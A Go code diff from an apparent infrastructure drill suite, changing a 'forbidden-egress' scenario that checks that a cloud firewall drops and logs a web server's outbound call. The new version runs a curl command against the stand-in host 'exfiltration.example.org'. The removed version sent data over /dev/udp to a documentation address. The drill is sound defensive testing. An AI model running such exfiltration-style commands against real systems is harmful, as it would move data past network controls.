@@ -11,6 +11,7 @@ import (
 	"haven/drill/check"
 	"haven/drill/fault"
 	"haven/drill/history"
+	"haven/drill/target"
 )
 
 const firewallHold = 15 * time.Second
@@ -30,9 +31,9 @@ func firewall() []Scenario {
 			Needs: []string{"logs:FilterLogEvents"}, Fault: knownBad, Judge: noOtherVictims,
 		},
 		{
-			Name: "failover/firewall/forbidden-egress", Does: "a web server sends to the internet what no rule allows: it is dropped, and logged",
+			Name: "failover/firewall/forbidden-egress", Does: "a web server calls a name on the internet that no rule allows: it is dropped, and logged",
 			Promises: []string{"SEC-07"}, Times: 2, Errors: 0, Whole: time.Minute,
-			Needs: []string{"elasticloadbalancing:DescribeTargetHealth", "ssm:SendCommand", "ssm:GetCommandInvocation", "logs:FilterLogEvents"},
+			Needs: append([]string{"elasticloadbalancing:DescribeTargetHealth", "logs:FilterLogEvents"}, target.CommandNeeds...),
 			Fault: forbiddenEgress, Judge: noOtherVictims,
 		},
 	}
@@ -101,16 +102,17 @@ func plainRequest(ctx context.Context, address string, a attack) (answered bool,
 	return true, response.Body.Close()
 }
 
-// Where forbidden traffic goes: an address that is nobody's (RFC 5737), by a protocol that needs no answer. That it was dropped, the
-// firewall itself says in its log.
-const (
-	nobody     = "192.0.2.1"
-	nobodyPort = 5353
-)
+// exfiltrate has a server begin TLS with a name that is not on the allow-list, and prints where to and which status it got: 000 without an
+// answer. The site's own public address is one that answers on AWS, so that the connection is made and only the name can be what is dropped.
+// https://docs.aws.amazon.com/network-firewall/latest/developerguide/stateful-rule-groups-domain-names.html
+const exfiltrate = `address=$(getent ahostsv4 %s | awk 'NR == 1 { print $1 }')
+echo "$address $(curl -sk -m 5 -o /dev/null -w '%%{http_code}' --resolve "exfiltration.example.org:443:$address" https://exfiltration.example.org/)"`
 
-// forbiddenEgress has a server send to the internet by UDP, which no rule allows: a tunnel for data would begin so.
+const unanswered = "000"
+
+// forbiddenEgress has a server call a name on the internet that no rule allows: whoever takes data out would begin so.
 func forbiddenEgress(s Stage) fault.Fault {
-	var server string
+	var server, address string
 	return &forbidden{
 		stage: s,
 		choose: func(ctx context.Context) (string, error) {
@@ -119,8 +121,17 @@ func forbiddenEgress(s Stage) fault.Fault {
 			return server, err
 		},
 		attempt: func(ctx context.Context) (passed bool, err error) {
-			return false, s.commandOn(ctx, server, fmt.Sprintf("for i in 1 2 3; do echo haven-drill > /dev/udp/%s/%d; sleep 0.2; done", nobody, nobodyPort))
+			// curl's own failure is what is hoped for: the last word of the script's echo is the verdict.
+			said, err := s.Command(ctx, server, fmt.Sprintf(exfiltrate, s.Outputs.LoadBalancer.DNSName))
+			if err != nil {
+				return false, err
+			}
+			var status string
+			if _, err := fmt.Sscan(said, &address, &status); err != nil {
+				return false, fmt.Errorf("%s said %q instead of an address and a status: %w", server, said, err)
+			}
+			return status != unanswered, nil
 		},
-		logged: func(e alert) bool { return e.Event.Destination == nobody && e.Event.DestinationPort == nobodyPort },
+		logged: func(e alert) bool { return e.Event.Destination == address && e.Event.DestinationPort == 443 },
 	}
 }
